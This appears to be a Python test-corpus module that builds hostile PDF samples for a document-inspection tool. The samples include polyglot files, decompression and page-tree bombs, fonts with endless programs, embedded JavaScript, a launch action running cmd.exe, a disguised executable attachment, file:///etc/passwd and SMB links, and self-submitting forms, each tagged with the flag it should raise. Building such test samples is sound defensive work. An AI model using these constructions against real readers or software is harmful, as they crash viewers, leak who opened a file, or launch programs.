"""Attacks: on the inspection, on whoever draws pages, on the reviewer's viewer, and on the reviewer.

What only a viewer could be hurt by is taken in and flagged, as it also stands in honest documents; what hurts whoever
opens it is refused. Neither may cost more than the limits of one child.
"""

import io
import random
import zlib
from collections.abc import Callable
from functools import cache, partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests import pdfs
from tests.corpus.odd import field_with
from tests.corpus.plain import RULE, truetype_font, type1_font
from tests.corpus.sample import Sample, collecting

SAMPLES: list[Sample] = []
sample = collecting(SAMPLES)

PLAIN = {1: pdfs.CATALOG, 2: pdfs.PAGES, 3: pdfs.PAGE[:-2] + b"/Contents 4 0 R >>", 4: pdfs.stream(RULE)}

# Two kinds of file at once

sample("An archive to one program, a PDF to another", code="archive")(pdfs.zip_polyglot)
sample("A web page with a script to one program, a PDF to another", code="web_page")(pdfs.html_polyglot)
sample("A script of the shell to one program, a PDF to another", code="not_pdf")(pdfs.script_polyglot)


@sample("A picture to one program, a PDF to another", code="photo")
def gif_polyglot() -> bytes:
    return b"GIF89a\1\0\1\0\0\0\0;" + pdfs.cv()


@sample("A photo whose comment is a PDF", code="photo")
def jpeg_polyglot() -> bytes:
    photo = pdfs.renamed_photo()
    comment = pdfs.cv()
    return photo[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + photo[2:]


@sample("The header stands within the first 1,024 bytes, as some viewers allow, after a script", code="not_pdf")
def late_header() -> bytes:
    return b"var a = 1; /*" + b" " * 500 + pdfs.cv() + b"*/"


@sample("A PDF first, and an archive to all who look at the end first, as unpackers do", flags=["polyglot"])
def pdf_then_archive() -> bytes:
    return pdfs.cv() + pdfs.zip_archive()


@sample("A PDF first, and a web page with a script in a comment of its second line", flags=["polyglot"])
def pdf_with_web_page() -> bytes:
    return pdfs.written(PLAIN, version=b"1.7\n%<html><script>alert(1)</script><!--")


@sample("A PDF first, and a web page after its end", flags=["polyglot"])
def pdf_then_web_page() -> bytes:
    return pdfs.cv() + b"\n<script>alert(document.cookie)</script>\n"


@sample("A PDF that is a tape archive by a word at byte 257", flags=["polyglot"])
def pdf_with_tape_archive() -> bytes:
    return pdfs.written(PLAIN, version=b"1.7\n%" + bytes(247) + b"ustar\x0000")


# Bombs: little data that becomes much

sample("Two megabytes whose page expands to two gigabytes", code="too_complex")(pdfs.flate_bomb)
sample("The same where the objects are kept, so that opening meets it", code="too_complex")(pdfs.object_stream_bomb)
sample("170 kB that become twenty million small objects", code="too_complex")(pdfs.memory_bomb)


def compressed_again(times: int) -> bytes:
    """A gigabyte of zeros, compressed so often that a few kilobytes remain."""
    data = pdfs.zeros_compressed(1000)
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    filters = b"/Filter [%s]" % (b"/FlateDecode " * times)
    return pdfs.one_page(b"/Contents 4 0 R", {4: pdfs.stream(data, filters)})


sample("A gigabyte compressed twice", name="chained_bomb", code="too_complex")(partial(compressed_again, 2))
sample(
    "The same behind more filters than any program writes",
    name="chain_of_twelve_filters",
    code="too_complex",
)(partial(compressed_again, 12))


@sample("Half a gigabyte by repeating one byte (run length)", code="too_complex")
def run_length_bomb() -> bytes:
    data = zlib.compress(b"\x81 " * (4 << 20) + b"\x80", 9)
    return pdfs.one_page(b"/Contents 4 0 R", {4: pdfs.stream(data, b"/Filter [/FlateDecode /RunLengthDecode]")})


@sample("Two gigabytes in the cross-reference itself", code="broken")
def cross_reference_bomb() -> bytes:
    out = b"%PDF-1.7\n1 0 obj\n" + pdfs.CATALOG + b"\nendobj\n"
    rows = pdfs.stream(
        pdfs.zeros_compressed(2000), b"/Type /XRef /Size 400000000 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode"
    )
    return out + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (rows, len(out))


@sample("Ten bombs of 60 MB each on one page, each below the limit of one stream", code="too_complex")
@cache
def bombs_below_the_limit() -> bytes:
    parts = dict.fromkeys(range(4, 14), pdfs.stream(pdfs.zeros_compressed(60), b"/Filter /FlateDecode"))
    return pdfs.one_page(b"/Contents [%s]" % b"".join(b"%d 0 R " % number for number in parts), parts)


@sample("A picture of ten billion points in 10 kB, which a viewer would unpack", flags=["unusual_size"])
def picture_bomb() -> bytes:
    facts = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray"
    facts += b" /BitsPerComponent 8 /Filter /FlateDecode"
    return with_picture(pdfs.zeros_compressed(10), facts)


def with_picture(data: bytes, facts: bytes) -> bytes:
    return pdfs.one_page(
        b"/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>",
        {4: pdfs.stream(b"q 595 0 0 842 0 0 cm /I Do Q"), 5: pdfs.stream(data, facts)},
    )


# Page trees

sample("Ten levels of ten times the same child: 10^10 pages in 2 kB", code="broken")(pdfs.page_bomb)
sample("A tree of pages that contains itself", code="broken")(pdfs.page_loop)
sample("One page that says it is a million", code="broken")(pdfs.page_claim)
sample("A page five thousand levels down", code="broken")(pdfs.deep_page_tree)


@sample("A million times the same page, one after the other", code="too_complex")
@cache
def million_children() -> bytes:
    return pdfs.written(
        {
            1: pdfs.CATALOG,
            2: b"<< /Type /Pages /Count 1000000 /Kids [%s] >>" % (b"3 0 R " * 1_000_000),
            3: pdfs.PAGE,
        }
    )


@sample("Fifty thousand times the same page: below the limit of one list", code="too_many_pages")
@cache
def many_children() -> bytes:
    return pdfs.written(
        {1: pdfs.CATALOG, 2: b"<< /Type /Pages /Count 50000 /Kids [%s] >>" % (b"3 0 R " * 50_000), 3: pdfs.PAGE}
    )


@sample("A count of pages below nothing")
def negative_count() -> bytes:
    return pdfs.written({1: pdfs.CATALOG, 2: b"<< /Type /Pages /Count -5 /Kids [3 0 R] >>", 3: pdfs.PAGE})


# Nesting

sample("A hundred thousand lists inside one another", flags=["not_fully_checked"])(pdfs.deep_nesting)


def nested(opening: bytes, closing: bytes, depth: int = 100_000) -> bytes:
    return pdfs.one_page(objects={4: opening * depth + b"null" + closing * depth}, catalog=b"/Deep 4 0 R")


sample("The same with dictionaries", name="deep_dictionaries", flags=["not_fully_checked"])(
    partial(nested, b"<</A ", b">>")
)


@sample("A text with a million open brackets")
def deep_brackets() -> bytes:
    return pdfs.one_page(objects={4: b"(" * 1_000_000 + b")" * 1_000_000}, catalog=b"/Deep 4 0 R")


@sample("A text with a million open brackets that are never closed")
def open_brackets() -> bytes:
    return pdfs.one_page(objects={4: b"(" * 1_000_000})


@sample("A page whose drawing opens 100,000 lists and saves the state as often")
def deep_drawing() -> bytes:
    return pdfs.one_page(b"/Contents 4 0 R", {4: pdfs.stream(b"q " * 100_000 + b"[" * 100_000 + RULE)})


@sample("A name of a megabyte and a number of a megabyte")
def long_words() -> bytes:
    return pdfs.one_page(objects={4: b"[ /%s %s ]" % (b"A" * (1 << 20), b"9" * (1 << 20))}, catalog=b"/Long 4 0 R")


# Tables of what is where


@sample("A table that says it has two billion rows", flags=["mended"])
def huge_size() -> bytes:
    return pdfs.written(PLAIN).replace(b"xref\n0 5", b"xref\n0 2147483647").replace(b"/Size 5", b"/Size 2147483648")


@sample("A table whose former version is itself", flags=["mended"])
def loop_of_tables() -> bytes:
    plain = pdfs.written(PLAIN)
    return plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % plain.rindex(b"xref\n0 "))


@sample("Two thousand former versions, one after the other")
@cache
def chain_of_tables() -> bytes:
    data = pdfs.one_page()
    for number in range(2000):
        data = pdfs.appended(data, {3: pdfs.PAGE}, root=1, size=5) if number % 50 == 0 else again(data)
    return data


def again(data: bytes) -> bytes:
    """One more table that changes nothing and names the one before."""
    previous = data[data.rindex(b"startxref") + 9 :].split()[0]
    table = b"xref\n0 0\ntrailer\n<< /Size 5 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (previous, len(data))
    return data + table


@sample("An object with the largest number there is")
def largest_number() -> bytes:
    return pdfs.one_page(catalog=b"/Far 2147483647 65535 R") + b"2147483647 65535 obj\n<< >>\nendobj\n"


@sample("A text whose length is that text itself")
def length_of_itself() -> bytes:
    return pdfs.one_page(b"/Contents 4 0 R", {4: b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % RULE})


@sample("The catalog is the page, and the page its own parent", code="broken")
def own_parent() -> bytes:
    return pdfs.written({1: b"<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] /Count 1 /Parent 1 0 R >>"})


@sample("A drawing that calls itself, and a font whose letters write themselves", is_drawn=False)
def endless_drawing() -> bytes:
    return pdfs.one_page(
        b"/Contents 4 0 R /Resources 6 0 R",
        {
            4: pdfs.stream(b"/X Do BT /F 9 Tf (a) Tj ET " + RULE),
            5: pdfs.stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources 6 0 R"),
            6: b"<< /XObject << /X 5 0 R >> /Font << /F 7 0 R >> >>",
            7: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 0]"
            b" /CharProcs << /a 8 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97"
            b" /Widths [1000] /Resources 6 0 R >>",
            8: pdfs.stream(b"1000 0 0 0 750 750 d1 BT /F 9 Tf (aa) Tj ET"),
        },
    )


@sample("Ten levels of drawings that call the next ten times: 10^10 rules on one page", is_drawn=False)
def bomb_of_drawings() -> bytes:
    levels = {}
    for number in range(5, 15):
        call = b"/X Do " * 10 if number < 14 else RULE
        levels[number] = pdfs.stream(
            call,
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
            % min(number + 1, 14),
        )
    page = b"/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>"
    return pdfs.one_page(page, {4: pdfs.stream(b"/X Do"), **levels})


@sample("A pattern of tiles of a millionth of a point over the whole page", is_drawn=False)
def bomb_of_tiles() -> bytes:
    tile = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.000001 /YStep 0.000001"
    return pdfs.one_page(
        b"/Contents 4 0 R /Resources << /Pattern << /P 5 0 R >> >>",
        {4: pdfs.stream(b"/Pattern cs /P scn 0 0 595 842 re f"), 5: pdfs.stream(RULE, tile + b" /Resources << >>")},
    )


@sample("A function in the language of printers with 50,000 brackets inside one another")
def deep_function() -> bytes:
    shading = b"<< /ShadingType 1 /ColorSpace /DeviceGray /Function 6 0 R >>"
    function = b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]"
    return pdfs.one_page(
        b"/Contents 4 0 R /Resources << /Shading << /S 5 0 R >> >>",
        {4: pdfs.stream(b"/S sh"), 5: shading, 6: pdfs.stream(b"{" * 50_000 + b"}" * 50_000, function)},
    )


# Sizes


@sample("A page of a billion points each way", flags=["unusual_size"])
def huge_page() -> bytes:
    return pdfs.one_page(b"/MediaBox [0 0 1000000000 1000000000] /Contents 4 0 R", {4: pdfs.stream(RULE)})


@sample("A page without height, and a unit below nothing", flags=["unusual_size"])
def flat_page() -> bytes:
    return pdfs.one_page(b"/MediaBox [0 0 595 0] /UserUnit -1 /Contents 4 0 R", {4: pdfs.stream(RULE)})


@sample("A size of a page in words instead of numbers")
def size_in_words() -> bytes:
    return pdfs.one_page(b"/MediaBox [/a (b) null 99 0 R] /Contents 4 0 R", {4: pdfs.stream(RULE)})


# Fonts. The inspection reads none; whoever draws pages must survive them.


def with_font(spoil: Callable[[bytes], bytes], key: str = "/FontFile2", base: Callable[[], bytes] = truetype_font):
    """A page written in an embedded font whose file was spoilt."""

    def change(pdf: pikepdf.Pdf) -> None:
        for thing in pdf.objects:
            if isinstance(thing, Dictionary) and key in thing:
                thing[key].write(spoil(thing[key].read_bytes()))

    return pdfs.resaved(change, base=base())


FAR = b"\xff\xff\xff\xff"


def noise(data: bytes) -> bytes:
    return random.Random(19).randbytes(len(data))


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def tables_far_away(data: bytes) -> bytes:
    """Every table of the font begins and ends four gigabytes away."""
    count = int.from_bytes(data[4:6], "big")
    rows = [data[12 + 16 * row : 28 + 16 * row] for row in range(count)]
    return data[:12] + b"".join(row[:8] + FAR + FAR for row in rows) + data[12 + 16 * count :]


def counts_without_measure(data: bytes) -> bytes:
    """The font has 65,535 tables."""
    return data[:4] + b"\xff\xff" + data[6:]


def with_table(name: bytes, table: bytes, data: bytes) -> bytes:
    """The font with one of its tables replaced."""
    place = data.index(name, 12)
    row = name + data[place + 4 : place + 8] + len(data).to_bytes(4, "big") + len(table).to_bytes(4, "big")
    return data[:place] + row + data[place + 16 :] + table


ENDLESS = bytes([0xB8, 0xFF, 0xFD, 0x1C])  # push -3, jump by it: a program of a font that never ends

for name, why, spoil in [
    ("font_of_noise", "A TrueType font that is noise", noise),
    ("font_cut_off", "A TrueType font that ends in the middle", half),
    ("font_with_tables_far_away", "A TrueType font whose tables lie beyond its end", tables_far_away),
    ("font_with_too_many_tables", "A TrueType font of 65,535 tables", counts_without_measure),
    ("font_with_endless_program", "A TrueType font whose program never ends", partial(with_table, b"prep", ENDLESS)),
    (
        "font_with_65535_letters",
        "A TrueType font that has more letters than it holds",
        partial(with_table, b"maxp", b"\0\1\0\0" + b"\xff" * 28),
    ),
    (
        "font_with_wild_outlines",
        "A TrueType font whose letters are noise",
        partial(with_table, b"glyf", random.Random(23).randbytes(20_000)),
    ),
]:
    sample(why, name=name)(partial(with_font, spoil))

for name, why, spoil in [
    ("type1_font_of_noise", "A PostScript font that is noise", noise),
    ("type1_font_cut_off", "A PostScript font that ends in the middle", half),
    (
        "type1_font_with_endless_program",
        "A PostScript font that begins with an endless loop, for whoever runs it",
        lambda data: b"%!PS-AdobeFont-1.0: X\n{ { } loop } exec\n" + data,
    ),
]:
    sample(why, name=name)(partial(with_font, spoil, "/FontFile", type1_font))


@sample("A compact font (CFF) whose letter calls itself for ever")
def endless_compact_font() -> bytes:
    def index(*items: bytes) -> bytes:
        offsets = [1]
        for item in items:
            offsets.append(offsets[-1] + len(item))
        head = len(items).to_bytes(2, "big") + b"\2" + b"".join(offset.to_bytes(2, "big") for offset in offsets)
        return head + b"".join(items)

    call_first_routine = bytes([32, 29, 14])  # -107, callgsubr, endchar
    head = b"\1\0\4\2" + index(b"X")
    letters = index(b"\x0e", call_first_routine)
    size_of_rest = len(index(bytes(4))) + 2 + len(index(call_first_routine))
    place = len(head) + size_of_rest
    top = b"\x1c" + place.to_bytes(2, "big") + b"\x11"
    compact = head + index(top) + b"\0\0" + index(call_first_routine) + letters
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1000 1000] /FontFile3 6 0 R >>"
    return pdfs.one_page(
        b"/Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /X /FirstChar 32"
        b" /LastChar 33 /Widths [500 500] /FontDescriptor 5 0 R >> >> >>",
        {4: pdfs.stream(b"BT /F 24 Tf 72 700 Td (!!) Tj ET " + RULE), 5: descriptor}
        | {6: pdfs.stream(compact, b"/Subtype /Type1C")},
    )


# Pictures that no scanner makes


@sample("A fax picture of the newer kind (JBIG2) that is noise and says it is huge", flags=["unusual_size"])
def noise_as_jbig2() -> bytes:
    facts = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 1"
    page = b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\0\0\xea\x60\0\0\xea\x60" + bytes(11)
    return with_picture(page + random.Random(29).randbytes(5000), facts + b" /Filter /JBIG2Decode")


@sample("A JPEG 2000 picture that is noise after its head")
def noise_as_jpeg_2000() -> bytes:
    buffer = io.BytesIO()
    pdfs.Image.new("L", (64, 64), 99).save(buffer, "JPEG2000")
    facts = b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /Filter /JPXDecode"
    return with_picture(buffer.getvalue()[:120] + random.Random(31).randbytes(5000), facts)


@sample("A JPEG that says it has 65,500 points each way and holds none", flags=["unusual_size"])
def hollow_jpeg() -> bytes:
    data = pdfs.renamed_photo()
    place = data.index(b"\xff\xc0") + 5
    facts = b"/Type /XObject /Subtype /Image /Width 65500 /Height 65500 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    return with_picture(data[:place] + b"\xff\xdc" * 2 + data[place + 4 :], facts + b" /Filter /DCTDecode")


@sample("A fax picture of two billion columns")
def wide_fax() -> bytes:
    facts = b"/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray /BitsPerComponent 1"
    parameters = b" /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>"
    return with_picture(random.Random(37).randbytes(500), facts + parameters)


@sample("A picture with a predictor over two billion columns")
def wide_predictor() -> bytes:
    facts = b"/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    parameters = b" /Filter /FlateDecode /DecodeParms << /Predictor 15 /Colors 3 /Columns 2147483647 >>"
    return with_picture(zlib.compress(bytes(30_000)), facts + parameters)


# Scripts

sample("A script when the document opens", flags=["javascript"])(pdfs.with_javascript)
sample("A script in a packed stream when the page opens", flags=["javascript"])(pdfs.with_hidden_javascript)
sample("A script under another spelling, in an object nothing refers to", flags=["javascript"])(
    pdfs.with_disguised_javascript
)

ALERT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def with_catalog(entries: bytes, objects: dict[int, bytes] | None = None) -> bytes:
    return pdfs.one_page(objects=objects, catalog=entries)


for name, why, entries in [
    ("script_by_name", "A script in the tree of names", b"/Names << /JavaScript << /Names [(a) %s] >> >>" % ALERT),
    ("script_on_close", "A script when the document is closed or printed", b"/AA << /WC %s >>" % ALERT),
    (
        "script_after_another_action",
        "A script that follows a harmless step",
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next %s >>] >>" % ALERT,
    ),
    ("script_in_outline", "A script behind a bookmark", b"/Outlines << /First << /Title (CV) /A %s >> >>" % ALERT),
    ("script_without_kind", "A script whose action does not say that it is one", b"/OpenAction << /JS (1) >>"),
]:
    sample(why, name=name, flags=["javascript"])(partial(with_catalog, entries))


@sample("A script that plays a film and runs besides", flags=["javascript", "multimedia"])
def script_with_film() -> bytes:
    return with_catalog(b"/OpenAction << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>")


def scripted_field(event: str, form_of_it: str) -> bytes:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    return field_with(Dictionary(A=script) if form_of_it == "/A" else Dictionary(AA=Dictionary({event: script})))


for event, when in {"/K": "at each key", "/V": "when it is left", "/Fo": "when it is entered"}.items():
    sample(
        f"A script on a field of a form, {when}",
        name=f"field_script_{event[1:].lower()}",
        flags=["form", "form_script", "javascript"],
    )(partial(scripted_field, event, "/AA"))
sample("A script on a click into a field", name="field_script_click", flags=["form", "form_script", "javascript"])(
    partial(scripted_field, "", "/A")
)


@sample(
    "A script on a field, packed away so that no word of it stands in the file", flags=["form_script", "javascript"]
)
def packed_field_script() -> bytes:
    def add(pdf: pikepdf.Pdf) -> None:
        action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(pdf, b"app.alert(1)")))
        events = pdf.make_indirect(Dictionary(Bl=action))
        widget = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), AA=events)
        pdf.pages[0].Annots = Array([pdf.make_indirect(widget)])
        pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].Annots)

    return pdfs.resaved(add, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# Programs, files and addresses

sample("Wants to start the calculator", flags=["launch_action"])(pdfs.with_launch)


@sample("Wants to start a shell with words of its own when it opens", flags=["launch_action"])
def launch_on_open() -> bytes:
    return with_catalog(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")


@sample("A program for Windows as an attachment", flags=["embedded_file"])
def attached_program() -> bytes:
    def add(pdf: pikepdf.Pdf) -> None:
        program = b"MZ\x90\0" + bytes(200) + b"PE\0\0"
        pdf.attachments["cv.pdf.exe"] = pikepdf.AttachedFileSpec(pdf, program, filename="cv\u202efdp.exe")

    return pdfs.resaved(add)


@sample("Opens its own attachment by itself", flags=["embedded_file", "odd_link"])
def opens_its_attachment() -> bytes:
    def add(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["a.pdf"] = pikepdf.AttachedFileSpec(pdf, pdfs.cv(), filename="a.pdf")
        pdf.Root.OpenAction = Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf")))

    return pdfs.resaved(add)


sample("A link to a file of the reviewer's own disk", flags=["odd_link"])(pdfs.with_file_link)
sample("A link to a file on a share, which tells it who opened the document", flags=["odd_link"])(pdfs.with_remote_link)

ADDRESSES = {
    "javascript": b"javascript:alert(1)",
    "javascript_in_pieces": b" java\nscript:alert(1)",
    "share": b"smb://files.example.org/a",
    "share_of_windows": b"\\\\\\\\files.example.org\\\\a",
    "data": b"data:text/html;base64,PHNjcmlwdD4=",
    "search_of_windows": b"search-ms:query=a&crumb=location:files.example.org",
}


def with_address(address: bytes) -> bytes:
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (%s) >> >>" % address
    return pdfs.one_page(b"/Annots [%s]" % annotation)


for name, address in ADDRESSES.items():
    sample("A link over the whole page to something that is no web page", name=f"link_to_{name}", flags=["odd_link"])(
        partial(with_address, address)
    )


@sample("A link in sixteen-bit letters to a file", flags=["odd_link"])
def link_in_wide_letters() -> bytes:
    return with_address(b"\xfe\xff" + "file:///etc/passwd".encode("utf-16-be"))


@sample("All links hang on an address of the disk", flags=["odd_link"])
def base_on_the_disk() -> bytes:
    return with_catalog(b"/URI << /Base (file:///C:/) >>")


@sample("A picture that is to be fetched from elsewhere, which tells who opened the document", flags=["odd_link"])
def picture_from_elsewhere() -> bytes:
    facts = b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
    return with_picture(b"", facts + b" /F << /FS /URL /F (http://example.org/seen) >>")


@sample("A form that sends itself to a stranger when it is opened", flags=["odd_link"])
def sends_itself() -> bytes:
    return with_catalog(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://example.org/) >> >>")


@sample("Reads a file of the disk into its form", flags=["odd_link"])
def reads_a_file() -> bytes:
    return with_catalog(b"/OpenAction << /S /ImportData /F (c:\\\\data.fdf) >>")


# Locks that are none


@sample("A lock that names methods nobody knows", code="locked")
def unknown_lock() -> bytes:
    lock = b"/ID [<00> <00>] /Encrypt << /Filter /Standard /V 99 /R 99 /O (a) /U (b) /P -1 >>"
    return pdfs.one_page().replace(b"trailer\n<<", b"trailer\n<< " + lock)


@sample("A lock with a key of two billion bits", code="locked")
def huge_key() -> bytes:
    lock = b"/ID [<00> <00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 2147483647 /O <%s> /U <%s> /P -1 >>" % (
        b"00" * 32,
        b"00" * 32,
    )
    return pdfs.one_page().replace(b"trailer\n<<", b"trailer\n<< " + lock)
